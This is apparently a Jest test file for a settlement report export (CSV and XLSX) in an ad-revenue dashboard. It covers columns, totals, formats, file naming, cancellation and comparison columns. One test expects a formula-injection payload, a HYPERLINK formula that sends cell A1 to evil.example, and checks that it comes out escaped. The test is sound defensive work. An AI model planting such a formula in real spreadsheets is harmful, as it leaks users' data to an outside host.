import * as XLSX from 'xlsx';
import { configureSession } from '@/session';
import { fetchSettlement, fetchSettlementExport } from '@/features/settlement/api';
import type { SettlementParams } from '@/contract/typings';
import { addDays, todayIn } from '@/utils/dateRange';
import { settlementMatrix, settlementSheet } from '@/features/settlement/export/sheetSpec';
import { runSettlementExport, type ExportProgress } from '@/features/settlement/export/runExport';
import { ExportCancelled } from '@/lib/spreadsheet/exportErrors';
import { toCsv } from '@/utils/sheet';
import { setupMockApi } from '../support/mockApi';
import { EXPORT_LABELS, HOSTILE_NAME, renameApp, signInDemo } from './support';

setupMockApi();

// Ten whole days ending yesterday: in the first hour after midnight today has no rows yet.
const yesterday = addDays(todayIn('Asia/Shanghai'), -1);
const period = { startDate: addDays(yesterday, -9), endDate: yesterday };
const ctx = {
  startDate: period.startDate,
  endDate: period.endDate,
  labels: { ...EXPORT_LABELS, status: { ...EXPORT_LABELS.status }, adType: { ...EXPORT_LABELS.adType } },
  generatedAt: '2026-03-15 12:00 (Asia/Shanghai)',
  updatedAt: '2026-03-15 11:00 (Asia/Shanghai)',
};

beforeEach(async () => {
  localStorage.clear();
  localStorage.setItem('umi_locale', 'en-US');
  configureSession({ navigate: jest.fn(), notify: jest.fn(), currentPath: () => '/information/settlement' });
  await signInDemo();
});

describe('settlement export file', () => {
  it('holds every row of the filtered range, the preamble, the server columns and the totals line', async () => {
    const params: SettlementParams = { ...period, groupBy: ['day', 'adPosition'], appIds: [1001, 1002] };
    const [result, firstPage] = await Promise.all([
      fetchSettlementExport({ ...params, current: 2, pageSize: 10 }),
      fetchSettlement({ ...params, current: 1, pageSize: 10 }),
    ]);
    // 10 days × 10 ad positions of two apps: not just one page.
    expect(result.rows).toHaveLength(firstPage.total);
    expect(firstPage.total).toBe(100);

    const { matrix, headerRow, numberFormats } = settlementMatrix(result, ctx);
    expect(matrix.slice(0, headerRow)).toEqual([
      ['Settlement report'],
      ['Period', `${period.startDate} – ${period.endDate}`],
      ['Time zone', 'Asia/Shanghai'],
      ['Currency', 'USD'],
      ['Generated at', '2026-03-15 12:00 (Asia/Shanghai)'],
      ['Data updated at', '2026-03-15 11:00 (Asia/Shanghai)'],
      [],
    ]);
    expect(matrix[headerRow]).toEqual([
      'Date',
      'Status',
      'App ID',
      'App',
      'Ad position ID',
      'Ad position',
      'Unit ID',
      'Ad type',
      'Requests',
      'Fills',
      'Fill rate',
      'Impressions',
      'Show rate',
      'Clicks',
      'CTR',
      // Issue 31: gross labelled gross, then the publisher's earnings (the page's order).
      'Gross eCPM',
      'Gross revenue',
      'eCPM',
      'Estimated earnings',
    ]);
    const body = matrix.slice(headerRow + 1, -1);
    expect(body).toHaveLength(100);
    // Oldest day first (the export's default order), with the status by name and numbers as numbers.
    const first = result.rows[0];
    expect(body[0]).toEqual([
      first.date,
      first.status === 'final' ? 'Final' : 'Estimated',
      first.appId,
      first.appName,
      first.adPositionId,
      first.adPositionName,
      first.unitId,
      EXPORT_LABELS.adType[first.adType!],
      first.requests,
      first.fills,
      first.fillRate,
      first.impressions,
      first.showRate,
      first.clicks,
      first.ctr,
      first.ecpm,
      first.revenue,
      first.earningsEcpm,
      first.earnings,
    ]);
    expect(body.at(-1)?.[1]).toBe('Estimated');
    expect(body[0][1]).toBe('Final');

    const totals = matrix.at(-1)!;
    const t = result.totals;
    expect(totals).toEqual([
      'Total',
      '',
      '',
      '',
      '',
      '',
      '',
      '',
      t.requests,
      t.fills,
      t.fillRate,
      t.impressions,
      t.showRate,
      t.clicks,
      t.ctr,
      t.ecpm,
      t.revenue,
      t.earningsEcpm,
      t.earnings,
    ]);
    expect(t.requests).toBe(result.rows.reduce((s, r) => s + r.requests, 0));

    expect(numberFormats).toEqual([
      'yyyy-mm-dd',
      null,
      '0',
      null,
      '0',
      null,
      null,
      null,
      '#,##0',
      '#,##0',
      '0.00%',
      '#,##0',
      '0.00%',
      '#,##0',
      '0.00%',
      '"$"#,##0.00',
      '"$"#,##0.00',
      '"$"#,##0.00',
      '"$"#,##0.00',
    ]);
  });

  it('escapes a hostile app name so no spreadsheet runs it, and keeps markup as plain text', async () => {
    await renameApp(1001, HOSTILE_NAME);
    const result = await fetchSettlementExport({
      ...period,
      groupBy: ['app'],
      sortField: 'appName',
      sortOrder: 'ascend',
    });
    const { matrix } = settlementMatrix(result, ctx);
    const names = matrix.map((line) => line[1]);
    expect(names).toContain(`'${HOSTILE_NAME}`);
    expect(names).not.toContain(HOSTILE_NAME);
    expect(names).toContain('Tap & Match <b>Puzzle</b>');
    const csv = toCsv(matrix);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
    expect(csv.split('\r\n').some((line) => line.startsWith('='))).toBe(false);
  });

  it('uses the file name of the server without its extension, and only the grouping columns', async () => {
    const result = await fetchSettlementExport({ ...period, groupBy: ['app'] });
    const spec = settlementSheet(result, ctx);
    expect(spec.fileName).toBe(`settlement_${period.startDate}_${period.endDate}`);
    expect(spec.columns.map((c) => c.key).slice(0, 3)).toEqual(['appId', 'appName', 'requests']);
    expect(spec.totals?.[0]).toBe('Total');
  });
});

describe('running an export', () => {
  let saved: { name: string; blob: Blob }[];
  let restore: () => void;
  beforeEach(() => {
    saved = [];
    const blobs = new Map<string, Blob>();
    const create = jest.fn((blob: Blob) => {
      const url = `blob:test/${blobs.size}`;
      blobs.set(url, blob);
      return url;
    });
    Object.assign(URL, { createObjectURL: create, revokeObjectURL: jest.fn() });
    const click = jest.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (
      this: HTMLAnchorElement,
    ) {
      saved.push({ name: this.download, blob: blobs.get(this.href) as Blob });
    });
    restore = () => click.mockRestore();
  });
  afterEach(() => restore());

  it('fetches the whole range, reports its stages and saves a CSV named after the period', async () => {
    const progress: ExportProgress[] = [];
    const outcome = await runSettlementExport(
      { ...period, groupBy: ['day'], current: 3, pageSize: 10 },
      {
        format: 'csv',
        labels: ctx.labels,
        locale: 'en-US',
        onProgress: (p) => progress.push(p),
        now: () => Date.UTC(2026, 2, 15, 4),
      },
    );
    expect(outcome).toEqual({
      fileName: `settlement_${period.startDate}_${period.endDate}.csv`,
      rows: 10,
      usedWorker: false,
    });
    expect(progress.map((p) => p.stage)).toEqual(['fetch', 'build', 'build', 'save']);
    expect(progress.at(-1)?.percent).toBe(100);
    expect(saved).toHaveLength(1);
    expect(saved[0].name).toBe(outcome.fileName);
    const text = await saved[0].blob.text();
    const lines = text
      .replace(/^\ufeff/, '')
      .trimEnd()
      .split('\r\n');
    // Preamble (7 lines), header, 10 days, totals.
    expect(lines).toHaveLength(7 + 1 + 10 + 1);
    // A local time with the zone named, never a bare ISO instant (src/contract/zonedTime.ts).
    expect(lines[4]).toBe('Generated at,"Mar 15, 2026, 12:00 (GMT+08:00 Shanghai)"');
    expect(lines.at(-1)?.startsWith('Total,,')).toBe(true);
  });

  it('writes an xlsx that opens as a first-class sheet: dates, formats, IDs, frozen header, autofilter, preamble cells', async () => {
    const outcome = await runSettlementExport(
      { ...period, groupBy: ['day', 'app'], appIds: [1001] },
      {
        format: 'xlsx',
        labels: ctx.labels,
        filters: [['Apps', 'Puzzle']],
        locale: 'en-US',
        now: () => Date.UTC(2026, 2, 15, 4),
      },
    );
    expect(outcome.fileName).toBe(`settlement_${period.startDate}_${period.endDate}.xlsx`);
    const bytes = new Uint8Array(await saved[0].blob.arrayBuffer());
    const wb = XLSX.read(bytes, { type: 'array', cellNF: true, cellStyles: true });
    const ws = wb.Sheets.Settlement;
    // Preamble: the title, then a label and a value in separate cells.
    expect(ws.A1.v).toBe('Settlement report');
    expect([ws.A2.v, ws.B2.v]).toEqual(['Period', `${period.startDate} – ${period.endDate}`]);
    expect([ws.A3.v, ws.B3.v]).toEqual(['Apps', 'Puzzle']);
    expect([ws.A4.v, ws.B4.v]).toEqual(['Time zone', 'Asia/Shanghai']);
    // Title, period, one filter, time zone, currency, generated, updated, blank line: the header is row 9.
    const header = ['A', 'B', 'C', 'D', 'E', 'F'].map((c) => ws[`${c}9`].v);
    expect(header).toEqual(['Date', 'Status', 'App ID', 'App', 'Requests', 'Fills']);
    // A real date (Excel's day number with a date format), the ID as a number beside the name.
    expect(ws.A10).toMatchObject({ t: 'n', z: 'yyyy-mm-dd' });
    expect(XLSX.SSF.format('yyyy-mm-dd', ws.A10.v as number)).toBe(period.startDate);
    expect(ws.C10).toMatchObject({ t: 'n', v: 1001, z: '0' });
    expect(ws.E10).toMatchObject({ t: 'n', z: '#,##0' });
    expect(ws.G10).toMatchObject({ t: 'n', z: '0.00%' });
    expect(ws.M10).toMatchObject({ t: 'n', z: '"$"#,##0.00' });
    expect(ws.O10).toMatchObject({ t: 'n', z: '"$"#,##0.00' });
    // Ten days of one app, then the totals row outside the filter.
    expect(ws['!autofilter']).toEqual({ ref: 'A9:O19' });
    expect(ws.A20.v).toBe('Total');
    expect(ws['!cols']).toHaveLength(15);
    expect(ws['!cols']?.[3].wch).toBeGreaterThanOrEqual(8);
    const zip = XLSX.CFB.read(bytes, { type: 'array' });
    const entry = zip.FileIndex[zip.FullPaths.findIndex((p: string) => p.endsWith('/xl/worksheets/sheet1.xml'))];
    const sheetXml = new TextDecoder().decode(entry.content as Uint8Array);
    expect(sheetXml).toContain('<pane ySplit="9" topLeftCell="A10" activePane="bottomLeft" state="frozen"/>');
  });

  it('saves a data-only CSV: the header row first, the data rows, no preamble and no totals', async () => {
    const outcome = await runSettlementExport(
      { ...period, groupBy: ['day'] },
      { format: 'csvData', labels: ctx.labels, locale: 'en-US' },
    );
    expect(outcome.fileName).toBe(`settlement_${period.startDate}_${period.endDate}_data.csv`);
    const lines = (await saved[0].blob.text())
      .replace(/^\ufeff/, '')
      .trimEnd()
      .split('\r\n');
    expect(lines[0]).toBe(
      'Date,Status,Requests,Fills,Fill rate,Impressions,Show rate,Clicks,CTR,Gross eCPM,Gross revenue,eCPM,Estimated earnings',
    );
    expect(lines).toHaveLength(1 + 10);
    expect(lines[1].startsWith(`${period.startDate},`)).toBe(true);
    expect(lines.some((l) => l.startsWith('Total'))).toBe(false);
  });

  it('stops without saving when cancelled', async () => {
    const controller = new AbortController();
    const pending = runSettlementExport(
      { ...period, groupBy: ['day'] },
      { format: 'xlsx', labels: ctx.labels, signal: controller.signal },
    );
    controller.abort();
    await expect(pending).rejects.toBeInstanceOf(ExportCancelled);
    expect(saved).toHaveLength(0);
  });
});

describe('settlement export compared with another period (issue 17)', () => {
  it('carries the comparison figure, the change and the change % after each chosen metric, and their totals', async () => {
    const params: SettlementParams = { ...period, groupBy: ['app'], compare: 'previousPeriod' };
    const result = await fetchSettlementExport(params);
    // A hostile app name still comes out escaped beside the new columns.
    result.rows[0].appName = HOSTILE_NAME;
    const labels = {
      ...ctx.labels,
      comparedWith: 'Compared with',
      compareColumn: (m: string) => `${m} (comparison period)`,
      changeColumn: (m: string) => `${m} change`,
      changeRateColumn: (m: string) => `${m} change %`,
      changeNew: 'New',
    };
    // Issue 31: the headline earnings, compared.
    const layout = settlementMatrix(result, { ...ctx, labels, changeMetrics: ['earnings'] });
    const header = layout.matrix.find((r) => r.includes('Estimated earnings')) ?? [];
    const at = header.indexOf('Estimated earnings');
    expect(header.slice(at, at + 4)).toEqual([
      'Estimated earnings',
      'Estimated earnings (comparison period)',
      'Estimated earnings change',
      'Estimated earnings change %',
    ]);
    expect(header).not.toContain('Clicks change');
    expect(
      layout.matrix.some(
        (r) =>
          r[0] === 'Compared with' &&
          r[1] === `${result.comparison?.compareStartDate} – ${result.comparison?.compareEndDate}`,
      ),
    ).toBe(true);
    const first = layout.matrix[layout.matrix.indexOf(header) + 1];
    const row = result.rows[0];
    const before = row.compare?.earnings ?? 0;
    expect(first[at + 1]).toBe(before);
    expect(first[at + 2]).toBe(Math.round((row.earnings - before) * 100) / 100);
    expect(first[at + 3]).toBe(before ? Math.round(((row.earnings - before) / before) * 10000) / 10000 : 'New');
    expect(String(first.find((c) => String(c).includes('HYPERLINK')))).toMatch(/^'=/);
    const totals = layout.matrix.at(-1) ?? [];
    expect(totals[at + 1]).toBe(result.comparison?.compareTotals.earnings);
  });
});
